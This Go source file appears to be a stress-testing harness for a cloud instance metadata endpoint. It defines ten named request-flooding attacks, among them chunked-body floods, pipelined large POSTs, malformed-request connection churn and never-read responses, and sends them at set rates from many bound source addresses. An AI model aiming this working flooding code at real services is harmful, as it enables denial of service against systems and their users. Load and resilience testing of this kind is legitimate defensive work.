package main

import (
	"bytes"
	"io"
	"os"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"
)

const (
	pollLine = "GET /metadata/scheduledevents?api-version=2020-07-01 HTTP/1.1\r\n"
	postLine = "POST /metadata/scheduledevents?api-version=2020-07-01 HTTP/1.1\r\n"
	common   = "Host: 169.254.169.254\r\nMetadata: true\r\n"

	megabyte = 1_000_000
	piece    = 1 << 16 // bytes written to one connection before another has its turn
	tick     = second / 1000
	saved    = 20 * tick // unused rate is saved for so long, and no longer
	small    = 2048      // bytes of the receive buffer of a connection that is never read
)

// An attack is bytes that every one of its connections sends again and again.
type attack struct {
	payload     []byte
	connections int     // of each machine
	bytes       float64 // a second, of all machines together
	opened      float64 // connections a second, of all machines together
	once        bool    // one payload for each connection, and the next on a new one
	unread      bool    // what is answered is never read
	inTurn      bool    // the payload is sent again once there is an answer
	counter     int     // where a number of so many digits is in the payload, which each one changes
}

const digits = 10

var attacks = map[string]func() attack{
	// 2,700 chunks of one byte: 16 KB on the wire for each request.
	"chunks": func() attack {
		text := postLine + common + "Transfer-Encoding: chunked\r\n\r\n"
		text += strings.Repeat("1\r\nx\r\n", 2700) + "0\r\n\r\n"
		return attack{payload: []byte(text), connections: 30, bytes: 4 * megabyte, opened: 2000}
	},
	// 128 approvals of 64 KB, sent without waiting for an answer.
	"bodies": func() attack {
		text := postLine + common + "Content-Length: 65536\r\n\r\n" + strings.Repeat("x", 65536)
		payload := bytes.Repeat([]byte(text), 128)
		return attack{payload: payload, connections: 32, bytes: 200 * megabyte, opened: 2000}
	},
	// 100 polls, sent without waiting for an answer.
	"polls": func() attack {
		payload := bytes.Repeat([]byte(pollLine+common+"\r\n"), 100)
		return attack{payload: payload, connections: 16, bytes: 4 * megabyte, opened: 2000}
	},
	// A new connection for every malformed request.
	"churn": func() attack {
		payload := []byte("GET metadata HTTP/9.9\r\n: nothing\r\n\r\n")
		a := attack{payload: payload, connections: 8, bytes: 4 * megabyte, opened: 2000}
		a.once = true
		return a
	},
	// A new connection for every poll, as fast as they are answered.
	"fresh": func() attack {
		text := pollLine + common + "Connection: close\r\n\r\n"
		a := attack{payload: []byte(text), connections: 32, bytes: 50 * megabyte, opened: 100000}
		a.once = true
		return a
	},
	// Polls whose answers are never read.
	"unread": func() attack {
		payload := bytes.Repeat([]byte(pollLine+common+"\r\n"), 100)
		a := attack{payload: payload, connections: 30, bytes: 4 * megabyte, opened: 2000}
		a.unread = true
		return a
	},
	// A chunked body of 1 MB, sixteen times of what is taken.
	"oversized": func() attack {
		chunk := "2000\r\n" + strings.Repeat("x", 0x2000) + "\r\n"
		text := postLine + common + "Transfer-Encoding: chunked\r\n\r\n" + strings.Repeat(chunk, 128)
		payload := []byte(text + "0\r\n\r\n")
		return attack{payload: payload, connections: 30, bytes: 50 * megabyte, opened: 2000}
	},
	// Polls one after the other, as good machines send them, as fast as they are answered.
	"eager": func() attack {
		payload := []byte(pollLine + common + "\r\n")
		return attack{payload: payload, connections: 32, bytes: 50 * megabyte, opened: 2000, inTurn: true}
	},
	// The same, each of which differs from all before.
	"unique": func() attack {
		text := pollLine + common + "User-Agent: "
		payload := []byte(text + strings.Repeat("0", digits) + "\r\n\r\n")
		a := attack{payload: payload, connections: 32, bytes: 50 * megabyte, opened: 2000, inTurn: true}
		a.counter = len(text)
		return a
	},
	// Polls that ask for HTTP/2.
	"h2c": func() attack {
		text := pollLine + common + "Connection: Upgrade, HTTP2-Settings\r\n"
		text += "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
		return attack{payload: []byte(text), connections: 30, bytes: 1 * megabyte, opened: 2000}
	},
}

// A hostileConnection is one connection of an attack.
type hostileConnection struct {
	fd     int
	source [4]byte
	at     int  // how much of the payload is sent
	queued bool // waits for its turn to write
	done   bool // has sent its only payload
}

// An attacker carries an attack out: one thread, one epoll.
type attacker struct {
	attack
	epoll   int
	to      syscall.SockaddrInet4
	byFD    []*hostileConnection
	closed  []*hostileConnection // to be opened
	ready   []*hostileConnection // to be written to
	buffer  []byte
	sent    int64
	opens   int
	cut     int            // connections that the server ended
	answers map[string]int // reads that began with a status line, by status
}

// fromFile sends the request that is in a file.
func fromFile(path string) attack {
	payload, err := os.ReadFile(path)
	if err != nil {
		fail("%v", err)
	}
	return attack{payload: payload, connections: 32, bytes: 50 * megabyte, opened: 2000}
}

func runAttack(name, target string, sources [][4]byte, delay, seconds float64) {
	made, known := attacks[name]
	if path, is := strings.CutPrefix(name, "@"); is {
		made, known = func() attack { return fromFile(path) }, true
	}
	if !known {
		fail("no such attack: %s", name)
	}
	epoll, err := syscall.EpollCreate1(0)
	if err != nil {
		fail("%v", err)
	}
	host, port := split(target)
	s := &attacker{
		attack: made(), epoll: epoll, to: syscall.SockaddrInet4{Addr: host, Port: port},
		byFD: make([]*hostileConnection, 1<<16), buffer: make([]byte, 1<<18), answers: map[string]int{},
	}
	for range s.connections {
		for _, source := range sources {
			s.closed = append(s.closed, &hostileConnection{fd: -1, source: source})
		}
	}
	var stopped atomic.Bool
	go func() {
		io.Copy(io.Discard, os.Stdin)
		stopped.Store(true)
	}()
	time.Sleep(time.Duration(delay * float64(time.Second)))
	began := now()
	s.run(began+int64(seconds*float64(second)), &stopped)
	lasted := float64(now()-began) / float64(second)
	say(map[string]any{
		"seconds": lasted, "bytes": s.sent, "opened": s.opens, "cut": s.cut,
		"answers": s.answers,
	})
}

func (s *attacker) run(end int64, stopped *atomic.Bool) {
	var bytes, opens float64
	for last := now(); last < end && !stopped.Load(); {
		at := now()
		passed := float64(min(at-last, saved)) / float64(second)
		bytes = min(bytes+passed*s.bytes, max(s.bytes*float64(saved)/float64(second), piece))
		opens = min(opens+passed*s.opened, max(s.opened*float64(saved)/float64(second), 1))
		last = at
		for ; opens >= 1 && len(s.closed) > 0; opens-- {
			c := s.closed[0]
			s.closed = s.closed[1:]
			s.open(c)
		}
		// Each has one turn at most before the sockets are looked at again.
		for turns := len(s.ready); bytes > 0 && turns > 0; turns-- {
			c := s.ready[0]
			s.ready = s.ready[1:]
			c.queued = false
			bytes -= float64(s.write(c))
		}
		s.wait(at + tick)
	}
}

func (s *attacker) wait(until int64) {
	var events [256]syscall.EpollEvent
	left := syscall.NsecToTimespec(max(0, until-now()))
	n, _, _ := syscall.Syscall6(epollPwait2, uintptr(s.epoll), uintptr(unsafe.Pointer(&events)),
		uintptr(len(events)), uintptr(unsafe.Pointer(&left)), 0, 0)
	for i := range max(0, int(n)) {
		c := s.byFD[events[i].Fd]
		if c == nil {
			continue
		}
		if events[i].Events&syscall.EPOLLOUT != 0 {
			s.queue(c)
		}
		if events[i].Events&(syscall.EPOLLERR|syscall.EPOLLHUP|syscall.EPOLLRDHUP) != 0 && s.unread {
			s.lose(c)
		} else if events[i].Events&^uint32(syscall.EPOLLOUT) != 0 && !s.unread {
			s.read(c)
		}
	}
}

func (s *attacker) open(c *hostileConnection) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM|syscall.SOCK_NONBLOCK, 0)
	if err != nil {
		fail("%v", err)
	}
	syscall.SetsockoptInt(fd, syscall.IPPROTO_TCP, syscall.TCP_NODELAY, 1)
	syscall.SetsockoptInt(fd, syscall.IPPROTO_IP, bindAddressNoPort, 1)
	// No port stays occupied by a connection that is over.
	linger := syscall.Linger{Onoff: 1, Linger: 0}
	syscall.SetsockoptLinger(fd, syscall.SOL_SOCKET, syscall.SO_LINGER, &linger)
	if s.unread {
		syscall.SetsockoptInt(fd, syscall.SOL_SOCKET, syscall.SO_RCVBUF, small)
	}
	if err := syscall.Bind(fd, &syscall.SockaddrInet4{Addr: c.source}); err != nil {
		fail("bind %v: %v", c.source, err)
	}
	c.fd, c.at, c.done = fd, 0, false
	s.byFD[fd] = c
	s.opens++
	if err := syscall.Connect(fd, &s.to); err != nil && err != syscall.EINPROGRESS {
		s.lose(c)
		return
	}
	event := syscall.EpollEvent{Fd: int32(fd)}
	event.Events = syscall.EPOLLOUT | syscall.EPOLLRDHUP | epollET
	if !s.unread {
		event.Events |= syscall.EPOLLIN
	}
	if err := syscall.EpollCtl(s.epoll, syscall.EPOLL_CTL_ADD, fd, &event); err != nil {
		fail("%v", err)
	}
}

func (s *attacker) queue(c *hostileConnection) {
	if !c.queued && !c.done && c.fd >= 0 {
		c.queued = true
		s.ready = append(s.ready, c)
	}
}

// write sends the next piece of the payload. A socket that takes no more says when it does.
func (s *attacker) write(c *hostileConnection) int {
	if c.fd < 0 || c.done {
		return 0
	}
	if s.counter > 0 && c.at == 0 {
		for at := s.counter + digits - 1; ; at-- {
			s.payload[at]++
			if s.payload[at] <= '9' || at == s.counter {
				break
			}
			s.payload[at] = '0'
		}
	}
	n, err := syscall.Write(c.fd, s.payload[c.at:min(len(s.payload), c.at+piece)])
	if err == syscall.EAGAIN {
		return 0
	}
	if err != nil {
		s.lose(c)
		return 0
	}
	s.sent += int64(n)
	c.at += n
	if c.at == len(s.payload) {
		c.at, c.done = 0, s.once || s.inTurn
	}
	s.queue(c)
	return n
}

func (s *attacker) read(c *hostileConnection) {
	for c.fd >= 0 {
		n, err := syscall.Read(c.fd, s.buffer)
		if err == syscall.EAGAIN {
			return
		}
		if err != nil || n == 0 {
			s.lose(c)
			return
		}
		if n >= 12 && bytes.HasPrefix(s.buffer, []byte("HTTP/1.")) {
			s.answers[string(s.buffer[9:12])]++
			if s.inTurn {
				c.done = false
				s.queue(c)
			}
		}
	}
}

// lose gives a connection up that the server ended; another is opened in its place.
func (s *attacker) lose(c *hostileConnection) {
	s.cut++
	s.byFD[c.fd] = nil
	syscall.Close(c.fd)
	c.fd = -1
	if c.queued {
		c.queued = false
		s.ready = slices.DeleteFunc(s.ready, func(other *hostileConnection) bool { return other == c })
	}
	s.closed = append(s.closed, c)
}
